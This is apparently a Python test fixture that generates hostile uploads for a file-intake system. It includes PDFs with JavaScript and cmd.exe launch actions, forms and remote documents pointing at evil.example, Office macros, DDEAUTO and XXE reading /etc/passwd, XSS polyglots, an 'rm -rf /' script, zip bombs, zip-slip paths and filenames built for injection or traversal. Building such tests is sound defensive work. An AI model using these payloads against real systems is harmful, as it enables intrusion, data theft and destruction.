"""Files that somebody would hand in to harm whoever opens them, or the system that takes them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.conftest import PDF

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PNG_MARK, GIF, JPEG = (
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01",
)
REFUSED = "refused"


@dataclass(frozen=True)
class Hostile:
    """``found``: what has to be said beside it once it is taken (keys, any order); ``REFUSED``: it must not be taken;
    None: either will do, as long as nothing of it runs. ``name``: what its name must not be any more."""

    what: str
    filename: str
    content: bytes
    found: frozenset[str] | str | None = None


def corpus() -> list[Hostile]:
    return [*pdfs(), *office(), *polyglots(), *pictures(), *archives(), *names()]


def _pdf(what: str, found: str, **root: object) -> Hostile:
    return Hostile(what, f"{what}.pdf".replace(" ", "-"), pdf_with(**root), frozenset({found}))


def pdf_with(encrypted: bool = False, packed: bool = False, **root: object) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    for key, value in root.items():
        made.Root[f"/{key}"] = made.make_indirect(value)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    lock = pikepdf.Encryption(owner="o", user="u") if encrypted else False
    made.save(out, object_stream_mode=mode, encryption=lock)
    return out.getvalue()


def action(**what: object) -> Dictionary:
    return Dictionary({f"/{key}": value for key, value in what.items()})


def script() -> Dictionary:
    return action(S=Name.JavaScript, JS=String("app.alert(1)"))


def pdfs() -> Iterator[Hostile]:
    yield _pdf("script on opening", "script", OpenAction=script())
    yield _pdf(
        "script in names", "script", Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
    )
    yield _pdf("script of a page", "script", AA=Dictionary(WC=script()))
    yield _pdf("launch", "starts", OpenAction=action(S=Name.Launch, F=String("cmd.exe")))
    yield _pdf("form that sends", "fetches", OpenAction=action(S=Name.SubmitForm, F=String("https://evil.example/")))
    yield _pdf("remote document", "fetches", OpenAction=action(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf")))
    yield _pdf("data from elsewhere", "fetches", OpenAction=action(S=Name.ImportData, F=String("a.fdf")))
    yield _pdf("xfa form", "xfa", AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([])))
    inside = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), Dictionary(EF=Dictionary(F=String("MZ")))]))
    )
    yield _pdf("embedded file", "files_inside", Names=inside)
    yield _pdf("embedded document opened", "files_inside", OpenAction=action(S=Name.GoToE))
    hidden = pdf_with(packed=True, OpenAction=script())
    assert b"JavaScript" not in hidden
    yield Hostile("script in a packed object", "packed.pdf", hidden, frozenset({"script"}))
    plain = pdf_with(OpenAction=script())
    yield Hostile(
        "script under a hex name", "hex.pdf", plain.replace(b"/JavaScript", b"/J#61v#61Script"), frozenset({"script"})
    )
    yield Hostile("locked by a password", "locked.pdf", pdf_with(encrypted=True), frozenset({"unread"}))
    yield Hostile(
        "broken, with a script",
        "broken.pdf",
        b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>",
        frozenset({"script"}),
    )
    yield Hostile("a bomb of objects", "bomb.pdf", pdf_bomb(), frozenset({"unread"}))
    deep = b"%PDF-1.4\n1 0 obj" + b"[" * 50_000 + b"]" * 50_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    yield Hostile("very deep", "deep.pdf", deep)
    yield Hostile("page that is itself", "loop.pdf", PDF.replace(b"/Catalog", b"/Catalog/Pages 1 0 R/Kids[1 0 R]"))


def pdf_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(80)) + packer.flush()
    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog>>endobj\n2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
    return (
        head
        + str(len(packed)).encode()
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#: Where sniffers look: the first part, then one of the format's own.
DOCX, XLSX, ODT = "docx", "xlsx", "odt"
BODY = {DOCX: "word/document.xml", XLSX: "xl/workbook.xml", ODT: "content.xml"}


def zipped(kind: str, body: bytes = b"<x/>", **parts: bytes) -> bytes:
    """An office file; ``parts``: more of them by name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        if kind == ODT:
            packed.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        else:
            packed.writestr("[Content_Types].xml", TYPES)
            packed.writestr("_rels/.rels", b"<Relationships/>")
            packed.writestr("docProps/app.xml", b"<x/>")
        packed.writestr(BODY[kind], body)
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def rels(kind: str, target: str) -> bytes:
    said = f'Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"'
    return f"<Relationships><Relationship {said}/></Relationships>".encode()


def office() -> Iterator[Hostile]:
    def one(what: str, kind: str, found: str | None, body: bytes = b"<x/>", **parts: bytes) -> Hostile:
        name = f"{what}.{kind}".replace(" ", "-")
        return Hostile(what, name, zipped(kind, body, **parts), frozenset({found} if found else ()))

    yield one("macros", DOCX, "macros", **{"word/vbaProject.bin": b"x"})
    yield one("macros in capitals", DOCX, "macros", **{"word/VBAPROJECT.BIN": b"x"})
    yield one("macros of a workbook", XLSX, "macros", **{"xl/vbaProject.bin": b"x"})
    yield one("macro sheet", XLSX, "macros", **{"xl/macrosheets/sheet1.xml": b"<x/>"})
    yield one("template from elsewhere", DOCX, "fetches",
              **{"word/_rels/settings.xml.rels": rels("attachedTemplate", "https://evil.example/a.dotm")})  # fmt: skip
    utf16 = rels("attachedTemplate", "https://evil.example/a.dotm").decode().encode("utf-16")
    yield one("template in utf-16", DOCX, "fetches", **{"word/_rels/settings.xml.rels": utf16})
    yield one("picture from elsewhere", DOCX, "fetches",
              **{"word/_rels/document.xml.rels": rels("image", "file://evil.example/a.png")})  # fmt: skip
    yield one("link alone", DOCX, None,
              **{"word/_rels/document.xml.rels": rels("hyperlink", "https://ok.example/")})  # fmt: skip
    yield one("ole object", DOCX, "objects", **{"word/embeddings/oleObject1.bin": b"x"})
    yield one("packaged object", XLSX, "objects", **{"xl/embeddings/a.bin": b"x"})
    yield one("activex", DOCX, "objects", **{"word/activeX/activeX1.xml": b"<x/>"})
    dde = b"<w:p><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:p>"
    yield one("dde", DOCX, "dde", dde)
    yield one(
        "dde of a workbook", XLSX, "dde", **{"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}
    )
    yield one("basic", ODT, "macros", **{"Basic/Standard/Module1.xml": b"<x/>"})
    yield one("python macro", ODT, "macros", **{"Scripts/python/a.py": b"x"})
    yield one("event of a document", ODT, "macros", b'<script:event-listener xlink:href="vnd.sun.star.script:a"/>')
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le") + bytes(2)
    yield Hostile("macros of an old document", "lama.doc", old + bytes(4096))
    entity = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:p><w:t>&a;</w:t></w:p>'
    yield one("external entity", DOCX, None, entity)
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;</x>'
    yield one("billion laughs", DOCX, None, laughs)


def polyglots() -> Iterator[Hostile]:
    with_zip = io.BytesIO()
    with zipfile.ZipFile(with_zip, "w") as packed:
        packed.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    jar = with_zip.getvalue()
    yield Hostile("html as pdf", "surat.pdf", HTML, REFUSED)
    yield Hostile("html before a pdf", "surat.pdf", HTML + PDF, REFUSED)
    yield Hostile("html in a pdf", "surat.pdf", b"%PDF-1.4\n" + HTML + PDF)
    yield Hostile("html as a picture", "foto.png", HTML, REFUSED)
    yield Hostile("html as text", "catatan.txt", HTML)
    yield Hostile("html by its own name", "halaman.html", HTML, REFUSED)
    yield Hostile("html as a mail", "surat.eml", b"Content-Type: text/html\r\n\r\n" + HTML)
    yield Hostile("html that calls itself xhtml", "a.xhtml", HTML, REFUSED)
    yield Hostile("svg", "gambar.svg", SVG, REFUSED)
    yield Hostile("svg as png", "gambar.png", SVG, REFUSED)
    yield Hostile("svg as text", "gambar.txt", SVG)
    yield Hostile("gifar", "gambar.gif", GIF + jar, REFUSED)
    yield Hostile("jar behind a picture", "gambar.jpg", JPEG + jar)
    yield Hostile("script behind a picture", "gambar.png", PNG_MARK + HTML)
    yield Hostile("archive behind a pdf", "surat.pdf", PDF + jar)
    yield Hostile("jar as docx", "surat.docx", jar, REFUSED)
    yield Hostile("program as pdf", "surat.pdf", b"MZ" + bytes(200), REFUSED)
    yield Hostile("elf as mp3", "suara.mp3", b"\x7fELF" + bytes(200), REFUSED)
    yield Hostile("script of a shell", "jalan.sh", b"#!/bin/sh\nrm -rf /\n", REFUSED)
    yield Hostile("script as text", "jalan.txt", b"#!/bin/sh\nrm -rf /\n")
    yield Hostile("link file", "surat.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100), REFUSED)
    yield Hostile("html application", "surat.hta", HTML, REFUSED)
    yield Hostile("utf-7", "catatan.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield Hostile("xml with a style", "data.xml", b'<?xml-stylesheet href="javascript:alert(1)"?><x/>', REFUSED)
    yield Hostile("mht", "surat.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, REFUSED)


def pictures() -> Iterator[Hostile]:
    def png(width: int, height: int) -> bytes:
        head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
        body = b"IHDR" + head
        return PNG_MARK + struct.pack("!I", 13) + body + struct.pack("!I", zlib.crc32(body)) + bytes(100)

    yield Hostile("huge picture", "besar.png", png(2**31 - 1, 2**31 - 1))
    yield Hostile("picture without a size", "kosong.png", png(0, 0))
    yield Hostile("huge webp", "besar.webp", b"RIFF\x00\x01\x00\x00WEBPVP8X" + b"\xff" * 200)
    yield Hostile("truncated jpeg", "foto.jpg", JPEG)


def archives() -> Iterator[Hostile]:
    bomb = zipped(DOCX, bytes(120 << 20))
    yield Hostile("zip bomb", "bom.docx", bomb, REFUSED)
    many = zipped(DOCX, **{f"word/{number}": b"" for number in range(10_050)})
    yield Hostile("archive of ten thousand", "banyak.docx", many, REFUSED)
    inner = zipped(DOCX, **{"word/vbaProject.bin": b"x"})
    yield Hostile("archive in an archive", "dalam.docx", zipped(DOCX, **{"word/embeddings/a.docx": inner}))
    yield Hostile("archive with a path", "jalur.docx", zipped(DOCX, **{"../../../../etc/cron.d/a": b"x"}))
    lying = bytearray(zipped(DOCX))
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    yield Hostile("archive that lies about its size", "bohong.docx", bytes(lying), REFUSED)
    yield Hostile("truncated archive", "putus.docx", zipped(DOCX)[:-30])
    yield Hostile("bare archive", "isi.zip", zipped(DOCX), None)
    yield Hostile("gzip", "isi.gz", b"\x1f\x8b\x08\x00" + bytes(30), REFUSED)
    yield Hostile("rar", "isi.rar", b"Rar!\x1a\x07\x00" + bytes(30), REFUSED)


BAD_NAMES = {
    "override": "surat\u202efdp.exe.pdf", "isolate": "a\u2066b\u2069.pdf", "mark": "a\u200f\u200eb.pdf",
    "nothing": "a\u200b\u200d\ufeffb.pdf", "nul": "surat\x00.exe.pdf", "line": "a\r\nSet-Cookie: x=1.pdf",
    "escape": "a\x1b[31mb.pdf", "up": "../../../../etc/passwd.pdf", "windows path": "..\\..\\windows\\a.pdf",
    "absolute": "/etc/shadow.pdf", "device": "CON.pdf", "device of old": "com1.tar.pdf", "device alone": "NUL",
    "long": "a" * 300 + ".pdf", "long ending": "a.pdf" + "f" * 300, "dots": "...pdf", "blanks": "  a  .pdf  ",
    "quotes": 'a";filename="b.exe.pdf', "markup": "<img src=x onerror=alert(1)>.pdf", "stream": "a.pdf:evil.exe",
    "decomposed": "cafe\u0301.pdf", "separator": "a\u2028b.pdf", "template": "{{7*7}}.pdf", "surrogate": "a\udc80.pdf",
    "empty": "\u202e\u200b", "formula": "=cmd|'!A0.pdf",
}  # fmt: skip


def names() -> Iterator[Hostile]:
    for number, (what, name) in enumerate(BAD_NAMES.items()):
        if what != "surrogate":  # which no client can send
            yield Hostile(f"name: {what}", name, PDF + b"%%%d" % number)
